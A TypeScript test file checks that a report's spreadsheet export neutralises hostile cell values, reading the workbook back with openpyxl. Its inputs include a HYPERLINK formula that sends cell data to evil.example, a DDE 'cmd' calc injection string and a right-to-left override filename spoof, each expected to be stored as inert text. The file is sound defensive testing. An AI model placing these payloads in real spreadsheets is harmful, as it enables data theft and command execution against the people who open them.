/**
 * A table of hostile values in every column kind, read back by openpyxl cell by cell: each cell's
 * value, type, number format and quotePrefix style against what it must hold, worked out by hand.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { defineSection, type SheetColumn } from '@orgreport/metrics';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type PyCell, type PySheet, readWithOpenpyxl, sheet } from '../__fixtures__/openpyxl.ts';
import { makeFixtureModel } from '../__fixtures__/report-model.ts';
import { writeWorkbook } from './workbook.ts';

const scratch = mkdtempSync(join(tmpdir(), 'render-hostile-cells-'));
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

/** One row of the sheet: what goes in, by column. */
interface Row {
  text: unknown;
  day: unknown;
  instant: unknown;
  flag: unknown;
  count: unknown;
  ratio: unknown;
  share: unknown;
  pp: unknown;
  cost: unknown;
}

const COLUMNS: SheetColumn<Row>[] = [
  { header: 'text', kind: 'text', value: (r) => r.text },
  { header: 'day', kind: 'date', value: (r) => r.day },
  { header: 'instant', kind: 'datetime', value: (r) => r.instant },
  { header: 'flag', kind: 'boolean', value: (r) => r.flag },
  { header: 'count', kind: 'integer', value: (r) => r.count },
  { header: 'ratio', kind: 'decimal', value: (r) => r.ratio },
  { header: 'share', kind: 'share', value: (r) => r.share },
  { header: 'pp', kind: 'points', value: (r) => r.pp },
  { header: 'cost', kind: 'currency', value: (r) => r.cost },
];

/** A cell as openpyxl must read it (a missing format or quotePrefix is not checked). */
type Expected = { value: unknown; type: string; format?: string; quotePrefix?: boolean };

const empty: Expected = { value: null, type: 'n' };
/** Ordinary text: a shared string in the General format, without quotePrefix. */
const text = (value: string): Expected => ({ value, type: 's', format: 'General', quotePrefix: false });
/** Text a spreadsheet would take for a formula: kept as it is, inert by the text format and quotePrefix. */
const inert = (value: string): Expected => ({ value, type: 's', format: '@', quotePrefix: true });
const number = (value: number, format: string): Expected => ({ value, type: 'n', format });
const date = (iso: string, format: string): Expected => ({ value: iso, type: 'd', format });

const LONG = 'x'.repeat(40_000);
const PP = '+#,##0.0 "pp";-#,##0.0 "pp";0.0 "pp"';

/** Each row's input and its cells as read back, column by column. */
const CASES: Array<{ row: Row; cells: Expected[] }> = [
  {
    row: {
      text: 'plain text',
      day: '2026-10-05',
      instant: '2026-10-05T13:45:00Z',
      flag: true,
      count: 12_345,
      ratio: 0.1 + 0.2,
      share: 0.125,
      pp: 0.05,
      cost: 1.005,
    },
    cells: [
      text('plain text'),
      date('2026-10-05T00:00:00', 'yyyy-mm-dd'),
      date('2026-10-05T13:45:00', 'yyyy-mm-dd hh:mm'),
      { value: true, type: 'b' },
      number(12_345, '#,##0'),
      number(0.30000000000000004, '#,##0.00'),
      number(0.125, '#,##0.0%'),
      number(5, PP),
      // Money to the cent, half away from zero (1.005 is 1.00499999999999989... in binary).
      number(1.01, '#,##0.00 "EUR"'),
    ],
  },
  {
    row: {
      text: '=HYPERLINK("https://evil.example/?q="&A1,"x")',
      day: 'not a day',
      instant: 'not an instant',
      flag: false,
      count: Number.NaN,
      ratio: Number.POSITIVE_INFINITY,
      share: -0,
      pp: -0.0125,
      cost: -2.345,
    },
    cells: [
      inert('=HYPERLINK("https://evil.example/?q="&A1,"x")'),
      empty,
      empty,
      { value: false, type: 'b' },
      empty,
      empty,
      number(0, '#,##0.0%'),
      number(-1.25, PP),
      number(-2.35, '#,##0.00 "EUR"'),
    ],
  },
  {
    row: {
      text: "+cmd|' /C calc'!A0",
      day: null,
      instant: null,
      flag: 'yes',
      count: 1e21,
      ratio: 1e-7,
      share: null,
      pp: null,
      cost: null,
    },
    cells: [
      inert("+cmd|' /C calc'!A0"),
      empty,
      empty,
      empty,
      number(1e21, '#,##0'),
      number(1e-7, '#,##0.00'),
      empty,
      empty,
      empty,
    ],
  },
  { row: row('-2+3'), cells: [inert('-2+3'), ...blanks()] },
  { row: row('@SUM(1+1)'), cells: [inert('@SUM(1+1)'), ...blanks()] },
  { row: row('\t=1+1'), cells: [inert('\t=1+1'), ...blanks()] },
  { row: row('\r=1+1'), cells: [inert('\r=1+1'), ...blanks()] },
  // Control characters XML 1.0 cannot hold are left out (tab, line feed and carriage return stay).
  { row: row('a\u0001b\u0008c\u000bd\u000ce\u001ff\u007fg'), cells: [text('abcdefg'), ...blanks()] },
  { row: row('line 1\r\nline 2\rline 3\nend'), cells: [text('line 1\r\nline 2\rline 3\nend'), ...blanks()] },
  { row: row('  padded  '), cells: [text('  padded  '), ...blanks()] },
  { row: row(`<b>&amp;"q"'a'</b>`), cells: [text(`<b>&amp;"q"'a'</b>`), ...blanks()] },
  { row: row('🚀 \u202Egnp.exe\u202C עברית'), cells: [text('🚀 \u202Egnp.exe\u202C עברית'), ...blanks()] },
  // Cut to Excel's limit of 32,767 characters, the last one an ellipsis.
  { row: row(LONG), cells: [text(`${'x'.repeat(32_766)}…`), ...blanks()] },
  { row: row(''), cells: [empty, ...blanks()] },
  { row: row(null), cells: [empty, ...blanks()] },
  { row: row(undefined), cells: [empty, ...blanks()] },
  { row: row(2026), cells: [text('2026'), ...blanks()] },
];

/** A row with `value` as its text and nothing else. */
function row(value: unknown): Row {
  return {
    text: value,
    day: null,
    instant: null,
    flag: null,
    count: null,
    ratio: null,
    share: null,
    pp: null,
    cost: null,
  };
}

function blanks(): Expected[] {
  return COLUMNS.slice(1).map(() => empty);
}

/** What openpyxl's cell says of what `expected` checks. */
function seen(cell: PyCell, expected: Expected): Expected {
  return {
    value: cell.value,
    type: cell.type,
    ...('format' in expected && { format: cell.format }),
    ...('quotePrefix' in expected && { quotePrefix: cell.quotePrefix }),
  };
}

describe('a table of hostile values read back by openpyxl', () => {
  const model = makeFixtureModel();
  const hostile = defineSection({
    id: 'hostile',
    title: 'Hostile',
    sheets: [{ name: 'Hostile', columns: () => COLUMNS, rows: () => CASES.map((c) => c.row) }],
  });
  let table: PySheet;
  beforeAll(async () => {
    const file = join(scratch, 'hostile.xlsx');
    await writeWorkbook(model, file, { sections: [hostile], currency: 'EUR' });
    table = sheet(readWithOpenpyxl(file, 100), 'Hostile');
  });

  it('has its header, then one row per input, in an Excel table', () => {
    expect(table.rows[0]!.map((c) => c.value)).toEqual([
      'org_id',
      'month',
      'scope',
      ...COLUMNS.map((c) => c.header),
    ]);
    expect(table.tables).toEqual({ tbl_hostile: `A1:L${CASES.length + 1}` });
    expect(table.freeze).toBe('A2');
    expect(table.rows).toHaveLength(CASES.length + 1);
  });

  it('holds each value as it must, cell by cell', () => {
    for (const [i, c] of CASES.entries()) {
      const cells = table.rows[i + 1]!;
      const where = `row ${i + 2} (${JSON.stringify(String(c.row.text).slice(0, 30))})`;
      expect(seen(cells[0]!, text(model.organization.id)), where).toEqual(text(model.organization.id));
      // The month: the date of its first day, shown yyyy-mm.
      expect(seen(cells[1]!, date('2026-03-01T00:00:00', 'yyyy-mm')), where).toEqual(
        date('2026-03-01T00:00:00', 'yyyy-mm'),
      );
      expect(seen(cells[2]!, text('organization')), where).toEqual(text('organization'));
      expect(
        cells.slice(3).map((cell, j) => seen(cell, c.cells[j]!)),
        where,
      ).toEqual(c.cells);
    }
  });

  it('writes no formula and no empty string', () => {
    const all = table.rows.flat();
    expect(all.filter((c) => c.type === 'f')).toEqual([]);
    expect(all.filter((c) => c.value === '')).toEqual([]);
  });
});
